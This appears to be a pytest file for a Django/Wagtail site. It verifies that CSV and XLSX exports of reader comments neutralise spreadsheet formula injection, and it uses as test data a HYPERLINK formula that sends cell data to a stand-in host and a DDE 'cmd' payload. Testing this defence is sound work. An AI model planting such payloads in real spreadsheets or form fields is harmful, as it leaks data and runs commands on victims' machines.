"""Spreadsheet exports write what a reader typed as text, never as a formula a
spreadsheet would run, whichever way the export is made."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet

from base.exports import (
    CSV_LINES_PER_BLOCK,
    FormulaSafeExportMixin,
    csv_response,
    formula_safe,
    xlsx_response,
)
from cms.wagtail_hooks import CommentViewSet
from tests.factories import UserFactory
from tests.factories.cms import build_article, build_comment, build_indexes

COLUMNS = CommentViewSet.list_export
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_would_start_a_formula_is_kept_as_text(typed):
    assert formula_safe(typed) == "'" + typed


@pytest.mark.parametrize("value", ["Алматы", "", -3, 2.5, None])
def test_anything_else_is_left_alone(value):
    assert formula_safe(value) == value


def _rows_of_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _rows_of_xlsx(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_hand_made_exports_are_guarded():
    rows = [["Name"], [PAYLOAD]]
    streamed = b"".join(csv_response(iter(rows), "x").streaming_content)
    assert _rows_of_csv(streamed)[1] == ["'" + PAYLOAD]
    assert _rows_of_xlsx(xlsx_response(iter(rows), "x").content)[1] == ["'" + PAYLOAD]


def test_a_long_csv_goes_out_in_blocks_of_lines():
    rows = [["Name"], *([f"Слушатель {n}"] for n in range(2 * CSV_LINES_PER_BLOCK))]
    pieces = list(csv_response(iter(rows), "x").streaming_content)
    assert len(pieces) == 1 + 3  # the byte order mark, then whole blocks of lines
    assert _rows_of_csv(b"".join(pieces)) == rows


@pytest.fixture
def comment_list(client, home_pages):
    article = build_article(build_indexes(home_pages)["ru"], title="Форум акимов", slug="forum")
    build_comment(article, name="=cmd|' /C calc'!A0", body=PAYLOAD)
    client.force_login(UserFactory(groups=["Methodologists"]))
    return reverse("wagtailsnippets_cms_comment:list")


def test_a_reader_comment_exports_as_text_in_csv(client, comment_list):
    response = client.get(comment_list, {"export": "csv"})
    assert response.status_code == 200
    _header, row = _rows_of_csv(b"".join(response.streaming_content))
    assert row[COLUMNS.index("body")] == "'" + PAYLOAD
    assert row[COLUMNS.index("name")] == "'=cmd|' /C calc'!A0"


def test_a_reader_comment_exports_as_text_in_xlsx(client, comment_list):
    response = client.get(comment_list, {"export": "xlsx"})
    assert response.status_code == 200
    _header, row = _rows_of_xlsx(b"".join(response.streaming_content))
    assert row[COLUMNS.index("body")] == "'" + PAYLOAD
    assert row[COLUMNS.index("name")] == "'=cmd|' /C calc'!A0"


def test_every_admin_listing_that_exports_is_guarded(client, admin_user):
    client.force_login(admin_user)
    client.get(reverse("wagtailadmin_home"))  # the admin's viewsets are registered by now
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if getattr(viewset, "list_export", ViewSet.UNDEFINED) not in (ViewSet.UNDEFINED, [])
    ]
    assert exporting  # comments, cohorts, questions, certificates
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, FormulaSafeExportMixin), viewset
